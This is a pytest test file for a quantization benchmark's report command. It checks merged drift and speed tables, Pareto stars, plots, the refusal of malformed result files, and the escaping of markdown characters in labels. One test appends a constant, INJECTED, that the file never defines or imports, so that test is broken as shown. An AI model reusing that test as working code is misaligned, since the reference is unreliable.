"""`qoqopt report`: merging runs from two machines, Pareto marking, plots."""

import json
import re
import shutil
from collections import Counter
from pathlib import Path

import pytest

from qoqopt.report import SCHEMA, pareto
from tests.conftest import error_line, refused, run_cli


def _variant(name, size, kld, decode, domains):
    drift = {"all": {"positions": 100, "mean_kld": kld, "p99_kld": 10 * kld, "same_top_pct": 99.0 - 100 * kld,
                     "rms_dp_pct": 1.0, "accuracy": 0.9}}  # fmt: skip
    drift.update({d: {"mean_kld": kld * f} for d, f in domains.items()})
    return {"name": name, "format": name.split(":")[0], "status": "ok", "runtime": "llama.cpp", "size_bytes": size,
            "drift": drift, "worst_domain": max(domains, key=domains.get),
            "speed": {"decode_tok_s": decode, "prefill_tok_s": 10 * decode, "repeats": 1,
                      "spread": {"decode_tok_s": [decode, decode]}}}  # fmt: skip


def _run(label, decode_scale):
    dom = {"ct": 1.0, "ecg": 3.0, "xray": 0.5}
    return {
        "schema": SCHEMA,
        "run": {"machine": {"label": label}},
        "variants": [
            # as `qoqopt bench` writes it: the yardstick has an accuracy but no KLD of its own
            {"name": "reference", "format": "hf", "status": "ok", "runtime": "transformers float32",
             "size_bytes": 160_000_000, "drift": {"all": {"accuracy": 0.9, "items": 20}}},
            _variant("gguf:Q8_0", 90_000_000, 0.001, 50 * decode_scale, dom),
            _variant("gguf:Q4_K_M", 50_000_000, 0.02, 80 * decode_scale, dom),
            _variant("gguf:Q5_K_M", 60_000_000, 0.03, 70 * decode_scale, dom),  # bigger AND worse than Q4_K_M
            _variant("gptq:4", 55_000_000, 0.01, 60 * decode_scale, dom),
            {"name": "awq:4", "status": "failed", "error": "loader refused"},
        ],
    }


def test_pareto_front_by_hand():
    pts = {"a": (1, 5), "b": (2, 3), "c": (3, 4), "d": (4, 1), "e": (2, 3)}
    # c is beaten by b (smaller, less drift); b and e tie each other and are kept
    assert pareto(pts) == {"a", "b", "d", "e"}


def test_report_merges_two_machines_with_plots(tmp_path):
    a, b = tmp_path / "cpu-2t.json", tmp_path / "cpu-1t.json"
    a.write_text(json.dumps(_run("cpu 2 threads", 1.0)))
    b.write_text(json.dumps(_run("cpu 1 thread", 0.5)))
    res = run_cli("report", str(a), str(b), "--out", str(tmp_path / "rep"))
    assert res.returncode == 0, res.stderr
    md = (tmp_path / "rep" / "report.md").read_text()
    drift_section = md.split("## Mean KLD per clinical domain")[0]
    rows = {line.split("|")[1].strip(): line for line in drift_section.splitlines() if line.startswith(("| gguf", "| gptq"))}
    assert rows["gguf:Q5_K_M"].rstrip().endswith("|  |")  # dominated: not marked
    for starred in ["gguf:Q8_0", "gguf:Q4_K_M", "gptq:4"]:
        assert "★" in rows[starred]
    assert "| cpu 2 threads | gguf:Q4_K_M |" in md and "| cpu 1 thread | gguf:Q4_K_M |" in md
    assert "awq:4`: loader refused" in md
    # cells carry the input runs' numbers, each under its own column
    domains = _table(md, "## Mean KLD per clinical domain")
    assert {r["variant"]: (float(r["ct"]), float(r["ecg"]), float(r["xray"])) for r in domains if r["ct"] != "–"} == {
        "gguf:Q8_0": (1e-3, 3e-3, 5e-4), "gguf:Q4_K_M": (2e-2, 6e-2, 1e-2),
        "gguf:Q5_K_M": (3e-2, 9e-2, 1.5e-2), "gptq:4": (1e-2, 3e-2, 5e-3)}  # fmt: skip
    speed = {(r["machine"], r["variant"]): (float(r["prefill tok/s"]), float(r["decode tok/s (range)"]))
             for r in _table(md, "## Speed per machine")}
    assert speed[("cpu 2 threads", "gguf:Q4_K_M")] == (800, 80) and speed[("cpu 1 thread", "gguf:Q4_K_M")] == (400, 40)
    assert len(speed) == 8
    for png in ["drift_vs_size.png", "speed.png", "domain_drift.png"]:
        data = (tmp_path / "rep" / png).read_bytes()
        assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 5000


def test_plots_draw_the_runs_numbers(tmp_path, monkeypatch):
    """What the PNGs show, read from the figures before they are closed: each build at (size in MB,
    mean KLD), starred where no other is smaller and better (worked by hand above: Q8_0, Q4_K_M,
    gptq:4); the heat map's cells are log10 of each domain's KLD; one bar per machine and build at
    its decode speed."""
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    import numpy as np

    from qoqopt.report import write_plots

    figures, close = [], plt.close
    monkeypatch.setattr(plt, "close", lambda fig=None: (figures.append(fig), close(fig)))
    runs = [_run("cpu 2 threads", 1.0), _run("cpu 1 thread", 0.5)]
    assert sorted(write_plots(runs, tmp_path).values()) == ["domain_drift.png", "drift_vs_size.png", "speed.png"]
    scatter, heatmap, speed = figures
    builds = {v["name"]: v for v in runs[0]["variants"] if v.get("status") == "ok" and v["name"] != "reference"}
    points = {}
    for dot in scatter.axes[0].collections:
        (x, y), = dot.get_offsets()
        points[(round(float(x), 6), float(y))] = tuple(dot.get_facecolor()[0]) == matplotlib.colors.to_rgba("tab:red")
    assert points == {(v["size_bytes"] / 1e6, v["drift"]["all"]["mean_kld"]): name in ("gguf:Q8_0", "gguf:Q4_K_M", "gptq:4")
                      for name, v in builds.items()}  # fmt: skip
    cells = heatmap.axes[0].images[0].get_array()
    by_size = sorted(builds, key=lambda n: builds[n]["size_bytes"])
    want = [[np.log10(builds[n]["drift"][d]["mean_kld"]) for d in ("ct", "ecg", "xray")] for n in by_size]
    np.testing.assert_allclose(np.asarray(cells), want, rtol=1e-12)
    bars = {(c.get_label(), round(b.get_height(), 6)) for c in speed.axes[0].containers for b in c}
    assert bars == {(run["run"]["machine"]["label"], v["speed"]["decode_tok_s"]) for run in runs
                    for v in run["variants"] if v.get("speed")}  # fmt: skip

    # a build one machine did not measure has no bar there (it was a bar at 0 tok/s); one run in
    # another runtime elsewhere (llama.cpp on a GPU) is a group of its own, named as the tables do
    figures.clear()
    runs[1]["variants"] = [v for v in runs[1]["variants"] if v["name"] != "gguf:Q5_K_M"]
    runs[1]["variants"][1]["runtime"] = "llama.cpp CUDA"  # gguf:Q8_0
    write_plots(runs, tmp_path)
    speed = figures[-1]
    ticks = [t.get_text() for t in speed.axes[0].get_xticklabels()]
    assert "gguf:Q8_0 (llama.cpp)" in ticks and "gguf:Q8_0 (llama.cpp CUDA)" in ticks and "gguf:Q5_K_M" in ticks
    heights = {c.get_label(): dict(zip(ticks, (b.get_height() for b in c))) for c in speed.axes[0].containers}
    assert np.isnan(heights["cpu 1 thread"]["gguf:Q5_K_M"]) and heights["cpu 2 threads"]["gguf:Q5_K_M"] == 70
    assert np.isnan(heights["cpu 2 threads"]["gguf:Q8_0 (llama.cpp CUDA)"]) and heights["cpu 1 thread"]["gguf:Q8_0 (llama.cpp CUDA)"] == 25


def test_report_says_how_many_chats_the_numbers_rest_on():
    """Beside drift and accuracy, the chats they come from, per eval set (the run JSON's `eval`)."""
    from qoqopt.report import render_markdown

    from qoqopt.data import clinical_set

    five = {"source": "clinical", "items": 5, "seed": 0, "domains": {"ct": 1, "ecg": 1, "mri": 1, "ultrasound": 1, "xray": 1}}
    a, b = _run("cpu", 1.0), _run("gpu", 2.0)
    a["run"]["eval"] = b["run"]["eval"] = five
    # the built-in set's scans, counted from its items' own source files: eval and calib views of the same ones
    scans = {split: {(it.domain, Path(it.source).name) for it in clinical_set(split, n_per_base=1)} for split in ("eval", "calib")}
    assert scans["eval"] == scans["calib"]
    by_domain = Counter(domain for domain, _ in scans["eval"])
    note = (f" The built-in set's chats are seeded views (crops, windows, flips) of {len(scans['eval'])} source scans "
            f"({', '.join(f'{d} {n}' for d, n in sorted(by_domain.items()))}), the same ones its calibration split draws "
            "on: held-out views, not held-out patients. For evidence about a service, bench its own scans (`--eval`).")  # fmt: skip
    line = ("Evaluated on 5 chats: ct 1, ecg 1, mri 1, ultrasound 1, xray 1; eval set `clinical`, seed 0. "
            "One answer moves accuracy by 0.20.")  # fmt: skip
    assert render_markdown([a, b]).split("## Drift against the reference")[1].splitlines()[2] == line + note
    b["run"]["eval"] = {**five, "items": 20, "domains": {"ct": 20}, "source": "mine-0123abcd"}
    lines = [ln for ln in render_markdown([a, b]).splitlines() if ln.startswith("Evaluated on")]
    assert lines == [line + note,
                     "Evaluated on 20 chats: ct 20; eval set `mine-0123abcd`, seed 0. One answer moves accuracy by 0.05."]


def test_runs_on_other_chats_or_models_get_drift_tables_of_their_own():
    """Drift measured on other chats (a CT-only set), or against another model, cannot share a table
    with the built-in set's: one table showed the built-in set's Q4_K_M beside a CT set's Q5_K_M,
    starred Q4_K_M over it, and dropped Q4_K_M's CT result. Speed merges the runs of one model
    across eval sets; another model's speed is a table of its own."""
    from qoqopt.report import render_markdown

    builtin, ct_set, other_model = _run("cpu", 1.0), _run("cpu", 1.0), _run("cpu", 1.0)
    builtin["run"]["eval"] = {"source": "clinical", "items": 5, "seed": 0}
    ct_set["run"]["eval"] = {"source": "ct.jsonl", "items": 3, "seed": 0, "sha256": "ab" * 32}
    ct_set["variants"] = [ct_set["variants"][0], _variant("gguf:Q4_K_M", 50_000_000, 0.025, 80, {"ct": 1.0})]
    other_model["run"]["eval"] = builtin["run"]["eval"]
    for run, sha in ((builtin, "11"), (ct_set, "11"), (other_model, "22")):
        run["variants"][0]["files"] = [{"path": "mini/model.safetensors", "sha256": sha * 32}]
    md = render_markdown([builtin, ct_set, other_model])
    sections = md.split("## Drift against the reference (same chats, same positions)")[1:]
    assert [s.splitlines()[0] for s in sections] == [", set 1 of 3", ", set 2 of 3", ", set 3 of 3"]
    q4 = [next(ln for ln in s.splitlines() if ln.startswith("| gguf:Q4_K_M |")) for s in sections]
    assert [ln.split("|")[3].strip() for ln in q4] == ["2.00e-02", "2.50e-02", "2.00e-02"]
    assert "Evaluated on 3 chats" in sections[1] and "`ct.jsonl`" in sections[1] and "gguf:Q5_K_M" not in sections[1]
    assert len(_table(md, "## Speed per machine (medians), set 1 of 2")) == 4 + 1  # builtin's and ct_set's rows
    assert len(_table(md, "## Speed per machine (medians), set 2 of 2")) == 4  # other_model's
    # the same set, count and seed, but other chats chosen (a --domain filter): a set of its own
    filtered = json.loads(json.dumps(builtin))
    builtin["run"]["eval"]["ids_sha256"], filtered["run"]["eval"]["ids_sha256"] = "1" * 64, "2" * 64
    assert render_markdown([builtin, filtered]).count("## Drift against the reference") == 2


def test_every_drift_cell_is_its_variants_number_under_its_own_column():
    """Each variant gets distinct numbers in every column, read back through markdown-it-py's table
    parser: a swapped same-top / RMS Δp column, size in MiB, or 1 - accuracy all passed before (the
    fixture's RMS Δp and accuracy were one value for every variant; helper-66)."""
    from qoqopt.report import render_markdown

    run = _run("cpu", 1.0)
    measured = {"gguf:Q8_0": (92_812_345, 7.7e-7, 3.1e-6, 99.5, 0.12, 0.85, "ecg"),
                "gguf:Q4_K_M": (63_149_000, 2.4e-5, 9.9e-5, 97.25, 0.87, 0.8, "mri"),
                "gguf:Q5_K_M": (70_000_000, 3.3e-5, 1.2e-4, 96.0, 1.04, 0.75, "ct"),
                "gptq:4": (159_020_000, 7.9e-6, 2.5e-5, 98.75, 0.33, 0.9, "xray")}  # fmt: skip
    for v in run["variants"]:
        if v["name"] in measured:
            size, kld, p99, top, dp, acc, worst = measured[v["name"]]
            v.update(size_bytes=size, worst_domain=worst)
            v["drift"]["all"].update(mean_kld=kld, p99_kld=p99, same_top_pct=top, rms_dp_pct=dp, accuracy=acc,
                                     mean_kld_ci95=[0.8 * kld, 1.25 * kld])  # fmt: skip
    table = render_markdown([run]).split("## Drift against the reference (same chats, same positions)")[1].split("\n## ")[0]
    rows = _rendered_rows(table)
    got = {r[0]: dict(zip(rows[0][1:], r[1:])) for r in rows[1:]}
    for name, (size, kld, p99, top, dp, acc, worst) in measured.items():
        assert got[name] == {"size MB": f"{size / 1e6:.1f}", "mean KLD": f"{kld:.2e}",
                             "95% CI": f"{0.8 * kld:.2e}–{1.25 * kld:.2e}", "p99 KLD": f"{p99:.2e}",
                             "same top %": f"{top:.1f}", "RMS Δp %": f"{dp:.2f}", "answer acc": f"{acc:.2f}",
                             "worst domain": worst, "Pareto": got[name]["Pareto"]}, name  # fmt: skip
    assert got["reference"]["answer acc"] == "0.90" and got["reference"]["mean KLD"] == "–"


def test_accuracy_per_domain_is_shown_with_each_domains_chats():
    """Per-domain accuracy was in every result but in no table: a build that keeps its overall KLD
    low can still lose one modality's answers. Read back through markdown-it-py's table parser."""
    from qoqopt.report import render_markdown

    run = _run("cpu", 1.0)
    acc = {"reference": (1.0, 0.75, 0.5), "gguf:Q8_0": (1.0, 0.5, 0.5), "gguf:Q4_K_M": (0.85, 0.25, 0.0),
           "gguf:Q5_K_M": (0.9, 0.6, 0.4), "gptq:4": (0.95, 0.7, 0.45)}  # fmt: skip
    for v in run["variants"]:
        for domain, (chats, value) in zip(("ct", "ecg", "xray"), zip((8, 4, 2), acc.get(v["name"], ()))):
            v["drift"].setdefault(domain, {}).update(accuracy=value, items=chats)
    md = render_markdown([run])
    table = md.split("## Answer accuracy per clinical domain")[1].split("\n## ")[0]
    rows = _rendered_rows(table)
    assert rows[0] == ["variant", "ct (8)", "ecg (4)", "xray (2)"]
    assert {r[0]: tuple(map(float, r[1:])) for r in rows[1:]} == acc
    # runs without per-domain answers (a drift-only bench) get no such table
    for v in run["variants"]:
        for domain in ("ct", "ecg", "xray"):
            (v.get("drift") or {}).get(domain, {}).pop("accuracy", None)
    assert "Answer accuracy per clinical domain" not in render_markdown([run])


def test_small_drift_is_not_rounded_into_none():
    """One changed top token in 2,500 positions is 99.96%, which one decimal printed as a perfect
    100.0; an RMS Δp under 0.005% printed 0.00 (the H200's tiny-model runs). Read back through
    markdown-it-py's table parser, as the test above."""
    from qoqopt.report import render_markdown

    run = _run("cpu", 1.0)
    shown = {"gguf:Q8_0": (99.96, 0.0042, "99.96", "0.0042"), "gguf:Q4_K_M": (99.999, 0.5, "99.999", "0.5"),
             "gguf:Q5_K_M": (100.0, 0.0, "100.0", "0"), "gptq:4": (97.25, 1.2345, "97.2", "1.23")}  # fmt: skip
    for v in run["variants"]:
        if v["name"] in shown:
            v["drift"]["all"].update(same_top_pct=shown[v["name"]][0], rms_dp_pct=shown[v["name"]][1])
    table = render_markdown([run]).split("## Drift against the reference (same chats, same positions)")[1].split("\n## ")[0]
    rows = _rendered_rows(table)
    got = {r[0]: dict(zip(rows[0][1:], r[1:])) for r in rows[1:]}
    for name, (_, _, top, dp) in shown.items():
        assert (got[name]["same top %"], got[name]["RMS Δp %"]) == (top, dp), name


def test_a_build_run_in_two_runtimes_gets_a_row_for_each(tmp_path):
    """A GPTQ build runs fp32 torch on a CPU and bf16 Triton on a GPU: two measurements of one build's
    files. The drift table showed the first file's numbers for both (the order of the files on the
    command line chose which a card published), and the 5x disagreement went unsaid as noise. Each
    runtime gets a row of its own, named with it, in the drift, domain and plot data alike."""
    from qoqopt.report import drift_rows, load_results

    cpu, gpu = _run("cpu", 1.0), _run("h200", 4.0)
    triton = "transformers + qoqopt W4A16 (triton, bfloat16)"
    gptq = json.loads(json.dumps(gpu["variants"][4]))
    gptq.update(runtime=triton)
    gptq["drift"]["all"]["mean_kld"], gptq["drift"]["ct"]["mean_kld"] = 0.05, 0.06
    gpu["variants"][4] = gptq
    paths = [tmp_path / "cpu.json", tmp_path / "gpu.json"]
    for path, run in zip(paths, (cpu, gpu)):
        path.write_text(json.dumps(run))
    res = run_cli("report", *map(str, paths), "--out", str(tmp_path / "rep"))
    assert res.returncode == 0 and "mean KLD is" not in res.stderr, res.stderr
    md = (tmp_path / "rep" / "report.md").read_text()
    rows = {r["variant"]: r for r in _table(md, "## Drift against the reference")}
    domains = {r["variant"]: r for r in _table(md, "## Mean KLD per clinical domain")}
    for label, kld, ct in (("gptq:4 (llama.cpp)", "1.00e-02", "1.00e-02"), (f"gptq:4 ({triton})", "5.00e-02", "6.00e-02")):
        assert (rows[label]["mean KLD"], domains[label]["ct"]) == (kld, ct), label
    assert "gptq:4" not in rows and {"gguf:Q8_0", "gguf:Q4_K_M", "reference"} <= set(rows)  # one runtime each
    assert sorted(drift_rows(load_results(paths))) == sorted(rows)
    # the runtime is a result file's free text: in a row label it keeps no markup
    gptq["runtime"] = triton + INJECTED
    paths[1].write_text(json.dumps(gpu))
    res = run_cli("report", *map(str, paths), "--out", str(tmp_path / "rep2"))
    assert res.returncode == 0, res.stderr
    labels = [r["variant"] for r in _table((tmp_path / "rep2" / "report.md").read_text(), "## Drift against the reference")]
    tagged = next(label for label in labels if label.startswith(f"gptq:4 ({triton} "))
    assert not set(tagged) & set("<>[]`|$#\\\n"), tagged


def test_a_transformers_prefill_measured_the_old_way_is_marked(tmp_path):
    """Before 2026-12-03 transformers' prefill tok/s was TTFT less the encode, generate()'s host work
    included; such rows merged unmarked with the first-forward timing now written. llama.cpp's rows,
    whose prefill did not change, and rows bench writes now (`prefill` recorded) are not marked."""
    from qoqopt.bench.speed import PREFILL_BASIS

    run = _run("cpu", 1.0)
    gptq = run["variants"][4]
    gptq["runtime"] = "transformers float32 (qoqopt W4A16, torch)"
    path = tmp_path / "r.json"
    path.write_text(json.dumps(run))
    assert run_cli("report", str(path), "--out", str(tmp_path / "a")).returncode == 0
    md = (tmp_path / "a" / "report.md").read_text()
    rows = {r["variant"]: r["machine"] for r in _table(md, "## Speed per machine")}
    assert rows["gptq:4"] == "cpu ‡" and rows["gguf:Q4_K_M"] == "cpu" and "‡ measured by a qoqopt before 2026-12-03" in md
    gptq["speed"]["prefill"] = PREFILL_BASIS
    path.write_text(json.dumps(run))
    assert run_cli("report", str(path), "--out", str(tmp_path / "b")).returncode == 0
    assert "‡" not in (tmp_path / "b" / "report.md").read_text()


def test_drift_from_bf16_rounded_logits_is_not_merged_with_fp32_logits():
    """A bf16 reference's logits were rounded to bf16 before the KLD until 2026-12-03 (a floor near
    1e-4): such a run's drift is a table of its own, said to be older, not rows beside newer ones."""
    from qoqopt.bench.run import LOGITS
    from qoqopt.report import render_markdown

    old, new = _run("cpu", 1.0), _run("cpu", 1.0)
    new["run"]["logits"] = LOGITS
    md = render_markdown([old, new])
    assert md.count("## Drift against the reference") == 2 and md.count("Measured by a qoqopt before 2026-12-03") == 1
    assert "Measured by a qoqopt before 2026-12-03" not in render_markdown([new])


def test_speed_tables_keep_models_and_decode_lengths_apart(tmp_path, capsys):
    """A 32B's speed rows beside a 7B's, or 256-token decodes beside 32-token ones, read as one
    comparison in one table and one plot (helper-64); each gets its own, naming the model and the
    decode length, with the repeats' range beside the median decode rate and the probe's prompt."""
    runs = [_run("cpu", 1.0), _run("cpu", 1.0), _run("cpu", 1.0)]
    for run, (sha, model, decode) in zip(runs, [("11", "qoq-7b", 32), ("22", "qoq-32b", 32), ("11", "qoq-7b", 256)]):
        run["variants"][0]["files"] = [{"path": "model.safetensors", "sha256": sha * 32}]
        run["run"].update(model={"source": model}, speed_settings={"repeats": 3, "warmup": 1, "decode_tokens": decode})
    q4 = runs[0]["variants"][2]
    q4["speed"].update(prompt_tokens=754, repeats=3, spread={"decode_tok_s": [71.25, 83.5], "ttft_ms": None})
    paths = [tmp_path / f"r{i}.json" for i in range(3)]
    for path, run in zip(paths, runs):
        path.write_text(json.dumps(run))
    res = run_cli("report", *map(str, paths), "--out", str(tmp_path / "rep"))
    assert res.returncode == 0, res.stderr
    md = (tmp_path / "rep" / "report.md").read_text()
    tables = [_table(md, f"## Speed per machine (medians), set {n} of 3") for n in (1, 2, 3)]
    assert [len(t) for t in tables] == [4, 4, 4]
    assert f"Reference: `qoq-32b` (weights sha256 {'2' * 12}); 32 decode tokens a request." in md
    assert f"Reference: `qoq-7b` (weights sha256 {'1' * 12}); 256 decode tokens a request." in md
    row = next(r for r in tables[0] if r["variant"] == "gguf:Q4_K_M")
    assert (row["decode tok/s (range)"], row["prompt tokens"]) == ("80.0 (71.2–83.5)", "754")
    assert sorted(p.name for p in (tmp_path / "rep").glob("speed*.png")) == ["speed-1.png", "speed-2.png", "speed-3.png"]
    # a result from before one-request timing (no range recorded) is marked, and repeats null or a
    # float token count (a hand edit) are read, not a traceback (helper-68)
    del runs[2]["variants"][2]["speed"]["spread"]
    runs[1]["variants"][2]["speed"].update(repeats=None, prompt_tokens=754.0)
    for path, run in zip(paths[1:], runs[1:]):
        path.write_text(json.dumps(run))
    res = run_cli("report", *map(str, paths), "--out", str(tmp_path / "rep"), "--force")
    assert res.returncode == 0, res.stderr
    md = (tmp_path / "rep" / "report.md").read_text()
    assert [r["machine"] for r in _table(md, "## Speed per machine (medians), set 3 of 3")] == ["cpu #3", "cpu #3 †", "cpu #3", "cpu #3"]
    assert "† measured by a qoqopt before 2026-12-02" in md and md.count("† measured") == 1
    assert next(r for r in _table(md, "set 2 of 3") if r["variant"] == "gguf:Q4_K_M")["prompt tokens"] == "754"
    # a --no-speed run places no table of its own
    no_speed = json.loads(json.dumps(runs[0]))
    no_speed["run"]["model"]["source"] = "qoq-other"
    for v in no_speed["variants"]:
        v.pop("speed", None)
    paths[2].write_text(json.dumps(no_speed))
    res = run_cli("report", *map(str, paths), "--out", str(tmp_path / "rep"), "--force")
    md = (tmp_path / "rep" / "report.md").read_text()
    assert re.findall(r"## Speed per machine \(medians\)(.*)", md) == [", set 1 of 2", ", set 2 of 2"]
    runs[0]["variants"][2]["speed"]["spread"] = {"decode_tok_s": [1, "fast"]}
    paths[0].write_text(json.dumps(runs[0]))
    assert "speed.spread.decode_tok_s is [1, 'fast'], not a [min, max] pair of numbers" in refused(
        ["report", str(paths[0]), "--out", str(tmp_path / "rep2")], capsys)


def test_a_variant_measured_on_other_files_is_not_merged_and_nan_is_not_on_the_front(tmp_path, capsys):
    from qoqopt.report import render_markdown

    a, b = _run("cpu", 1.0), _run("gpu", 2.0)
    a["variants"][2]["files"] = [{"path": "gg/m.Q4_K_M.gguf", "sha256": "aa" * 32}]
    b["variants"][2]["files"] = [{"path": "gg2/m.Q4_K_M.gguf", "sha256": "bb" * 32}]
    for i, run in enumerate((a, b)):
        run["run"]["started"] = f"2026-12-01T1{i}:00:00"
        (tmp_path / f"{i}.json").write_text(json.dumps(run))
    err = refused(["report", tmp_path / "0.json", tmp_path / "1.json", "--out", tmp_path / "o"], capsys)
    assert err == ("error: gguf:Q4_K_M was measured on other files in the run on gpu started 2026-12-01T11:00:00 than "
                   "in the run on cpu started 2026-12-01T10:00:00 (another build): report those runs separately")
    a["variants"][2]["drift"]["all"]["mean_kld"] = float("nan")
    row = next(ln for ln in render_markdown([a]).splitlines() if ln.startswith("| gguf:Q4_K_M |"))
    assert row.split("|")[3].strip() == "–" and "★" not in row


def _edited(edit, **run_fields) -> str:
    """A result file with one hand edit to its gguf:Q8_0 variant (or to its run's fields)."""
    run = _run("m", 1.0)
    edit(run["variants"][1])
    run["run"].update(run_fields)
    return json.dumps(run)


def _rendered_rows(markdown: str) -> list[list[str]]:
    """The table rows of ``markdown`` as markdown-it-py's commonmark table parser reads them, header first."""
    from markdown_it import MarkdownIt

    rows, row = [], None
    for t in MarkdownIt("commonmark").enable("table").parse(markdown):
        if t.type == "tr_open":
            row = []
        elif t.type == "inline" and row is not None:
            row.append(t.content)
        elif t.type == "tr_close":
            rows.append(row)
            row = None
    return rows


def _table(md: str, heading: str) -> list[dict[str, str]]:
    """The rows of the markdown table under ``heading``, as dicts keyed by its header cells."""
    lines = [ln for ln in md.split(heading, 1)[1].split("\n## ")[0].splitlines() if ln.startswith("|")]
    cells = [[c.strip() for c in ln.strip().strip("|").split("|")] for ln in lines]
    return [dict(zip(cells[0], row)) for row in cells[2:]]


@pytest.mark.parametrize(
    "content,msg",
    [
        ("{", "not valid JSON"),
        (b"\x89PNG\r\n\x1a\n", "r.json is not a qoqopt bench result (not UTF-8 text)"),  # a plot, or a weights file
        ('{"schema": "x"}', "not a qoqopt bench result"),
        ("[]", "not a qoqopt bench result (schema None"),
        (json.dumps({"schema": SCHEMA}), 'needs a "run" object with its "machine"'),
        (json.dumps({"schema": SCHEMA, "run": {"machine": {}}}), 'needs a "variants" list of named objects'),
        (json.dumps({**_run("m", 1.0), "variants": [{"name": "gguf:Q8_0", "status": "ok", "drift": {"all": {}}}]}),
         "variant 'gguf:Q8_0' has drift but size_bytes None; a measured build has a positive size"),
        # hand edits that gave tracebacks, or (a negative size) a Pareto star
        (_edited(lambda v: v["drift"]["ct"].update(mean_kld="x")), "variant 'gguf:Q8_0': drift.ct.mean_kld is 'x', not a number"),
        (_edited(lambda v: v["drift"]["all"].update(p99_kld="x")), "drift.all.p99_kld is 'x', not a number"),
        (_edited(lambda v: v["speed"].update(decode_tok_s="fast")), "speed.decode_tok_s is 'fast', not a number"),
        (_edited(lambda v: v["drift"].update(ct=None)), "drift.ct is None, not an object"),
        (_edited(lambda v: v["drift"]["all"].update(accuracy="0.6")), "drift.all.accuracy is '0.6', not a number"),
        (_edited(lambda v: v.update(size_bytes=-5)), "has drift but size_bytes -5; a measured build has a positive size"),
        (_edited(lambda v: v.update(worst_domain=3)), "worst_domain is 3; a qoqopt.bench/1 result has a str there"),
        (_edited(lambda v: v.update(name=5)), 'needs a "variants" list of named objects'),
        (_edited(lambda v: None, machine={"label": 5}), "run.machine.label is 5; a qoqopt.bench/1 result has a str there"),
        (_edited(lambda v: None, eval={"items": "5"}), "run.eval.items is '5'; a qoqopt.bench/1 result has a int there"),
        (_edited(lambda v: None, eval={"items": -3}), "run.eval.items is -3; a run has at least one chat"),
        (_edited(lambda v: None, speed_settings="fast"), "run.speed_settings is 'fast'; a qoqopt.bench/1 result has a dict there"),
        (_edited(lambda v: None, model="/m"), "run.model is '/m'; a qoqopt.bench/1 result has a dict there"),
        (_edited(lambda v: None, eval={"domains": ["ct"]}), "run.eval.domains is ['ct']; a qoqopt.bench/1 result has a dict"),
        (_edited(lambda v: None, machine={"gpu": "H100"}), "run.machine.gpu is 'H100'; a qoqopt.bench/1 result has a dict"),
        (_edited(lambda v: v.update(files=5)), "files is 5; a qoqopt.bench/1 result has a list there"),
        (_edited(lambda v: v["drift"]["all"].update(mean_kld=-1e-3)), "drift.all.mean_kld is -0.001; a KL divergence is finite"),
        (_edited(lambda v: v["drift"]["all"].update(mean_kld=float("inf"))), "drift.all.mean_kld is inf; a KL divergence"),
        (_edited(lambda v: v.update(size_bytes=float("nan"))), "has drift but size_bytes nan; a measured build has a positive"),
        (_edited(lambda v: v.update(drift=None, speed="fast")), "speed is 'fast', not an object"),
    ],
)  # fmt: skip
def test_bad_result_files(tmp_path, content, msg, capsys):
    f = tmp_path / "r.json"
    f.write_bytes(content) if isinstance(content, bytes) else f.write_text(content)
    assert msg in refused(["report", f, "--out", tmp_path / "o"], capsys)
    assert not (tmp_path / "o").exists()


def test_report_output_is_whole_new_and_never_replaces_its_inputs(tmp_path, capsys):
    """The report folder appears whole or not at all; an existing one is replaced only with --force;
    an --out that holds the result files is refused even then; the same file twice is one run."""
    a = tmp_path / "results" / "a.json"
    a.parent.mkdir()
    a.write_text(json.dumps(_run("cpu", 1.0)))
    out = tmp_path / "rep"
    assert run_cli("report", str(a), str(a), "--out", str(out)).returncode == 0
    assert (out / "report.md").read_text().count("| cpu | gguf:Q4_K_M |") == 1
    copy = tmp_path / "results" / "a-copy.json"  # a copy under another name is the same run
    copy.write_text(json.dumps(json.loads(a.read_text()), indent=4))
    res = run_cli("report", str(a), str(copy), "--out", str(tmp_path / "rep2"))
    assert res.returncode == 0 and res.stderr == f"note: {copy} holds the same run as {a}: counted once\n"
    assert (tmp_path / "rep2" / "report.md").read_text() == (out / "report.md").read_text().replace("rep/", "rep2/")
    shutil.rmtree(tmp_path / "rep2")
    assert "already exists and is not empty (use --force" in refused(["report", a, "--out", out], capsys)
    assert run_cli("report", str(a), "--out", str(out), "--force").returncode == 0
    (tmp_path / "notes").mkdir()  # --force replaces a report, not a folder of someone's files
    (tmp_path / "notes" / "keep.txt").write_text("x")
    (tmp_path / "notes" / "report.md").write_text("# Ward 3 audit\n")  # a report.md of someone else's
    err = refused(["report", a, "--out", tmp_path / "notes", "--force"], capsys)
    assert "is not an earlier output of this command (it holds no report.md written by qoqopt report)" in err
    assert (tmp_path / "notes" / "keep.txt").exists()
    shutil.rmtree(tmp_path / "notes")
    err = refused(["report", a, "--out", a.parent, "--force"], capsys)
    assert err.endswith("which this command reads; choose another --out") and a.exists()
    assert "is a directory; give the bench-*.json files in it" in refused(["report", a.parent, "--out", tmp_path / "o"], capsys)
    (tmp_path / "file").write_text("x")
    assert "exists and is not a directory" in refused(["report", a, "--out", tmp_path / "file"], capsys)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file", "rep", "results"]


def test_a_machine_label_with_markdown_characters_stays_in_its_cell(tmp_path):
    """A label holding `|` (bench refuses one now; a result from before may hold it) split into
    columns and shifted the speed table; a backtick broke the failure list's code span. Checked with
    markdown-it-py's table parser, and with what `publish` reads back."""
    from markdown_it import MarkdownIt

    from qoqopt.publish import _rows_with_files

    res = tmp_path / "r.json"
    res.write_text(json.dumps(_run("ward 3 | A100 `sxm` $x^$", 1.0)))  # $...$ was matplotlib math: a traceback
    done = run_cli("report", str(res), "--out", str(tmp_path / "rep"))
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "rep" / "speed.png").stat().st_size > 0
    md = (tmp_path / "rep" / "report.md").read_text()
    assert "Runs merged: 1 (ward 3 \\| A100 'sxm' $x^$)." in md and "`sxm`" not in md
    speed = md.split("## Speed per machine (medians)")[1].split("\n## ")[0]
    rows = _rendered_rows(speed)
    assert rows[0][:2] == ["machine", "variant"] and len(rows) == 5 and all(len(r) == 10 for r in rows)
    assert {(r[0], r[1]) for r in rows[1:]} == {("ward 3 | A100 'sxm' $x^$", v) for v in
                                                ("gguf:Q8_0", "gguf:Q4_K_M", "gguf:Q5_K_M", "gptq:4")}  # fmt: skip
    rendered = MarkdownIt("commonmark").enable("table").render(speed)
    assert "<td>ward 3 | A100 'sxm' $x^$</td>" in rendered
